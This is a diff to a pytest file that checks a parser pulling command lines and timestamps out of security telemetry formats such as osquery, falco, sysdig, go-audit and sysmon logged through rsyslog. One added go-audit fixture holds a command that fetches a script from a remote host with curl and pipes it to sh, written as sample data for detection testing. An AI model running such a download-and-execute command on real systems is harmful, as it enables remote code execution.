@@ -97,6 +97,13 @@ COMMANDS: dict[str, object] = {
     "osquery, differences": {"unixTime": 1714550400.123, "diffResults": {"added": [{"cmdline": SHELL}], "removed": [{"cmdline": "old"}]}},
     "falco": {"time": "2024-05-01T08:00:00.123456789Z", "output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123456789}},
     "falco, no time": {"output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123000000}},
+    "sysdig": {"evt.time": "x", "proc.cmdline": SHELL, "timestamp": "2024-05-01T08:00:00.123Z"},
+    "a list of arguments": {"cmdline": SHELL.split(" "), "timestamp": "2024-05-01T08:00:00.123Z"},
+    "go-audit": {
+        "sequence": 7,
+        "timestamp": "1714550400.123",
+        "messages": [{"type": 1300, "data": "x"}, {"type": 1309, "data": 'argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"'}],
+    },
     "kunai": {"data": {"command_line": SHELL}, "info": {"event": {"name": "execve"}, "utc_time": "2024-05-01T08:00:00.123456789Z"}},
     "tetragon": {
         "process_exec": {"process": {"binary": "curl", "arguments": SHELL.split(" ")[1]}},
@@ -207,6 +214,16 @@ PREFIXES = [
 def test_an_object_behind_a_prefix(prefix: str, value: dict) -> None:
     strings, time = found(prefix.encode() + line(value))
     assert list(strings) in ([SHELL], [NAME]) and time == MOMENT
+
+
+@pytest.mark.parametrize("end", ["#015", "#012", "#015#012", " ", "\r"])
+def test_what_rsyslog_makes_of_line_ends_is_no_part_of_the_object(end: str) -> None:
+    assert list(found(b"May  1 08:00:01 host app: " + line(SYSMON) + end.encode())[0]) == [SHELL]
+
+
+def test_sysmon_for_linux_in_syslog() -> None:
+    event = XML_EVENT.replace("<System>", "<System><Correlation Guid='{0000}'/>")
+    assert found(f"May  1 08:00:01 host sysmon: {event}".encode()) == ({SHELL: {"cmdline"}}, MOMENT)
 
 
 def test_the_prefix_lends_its_time() -> None:
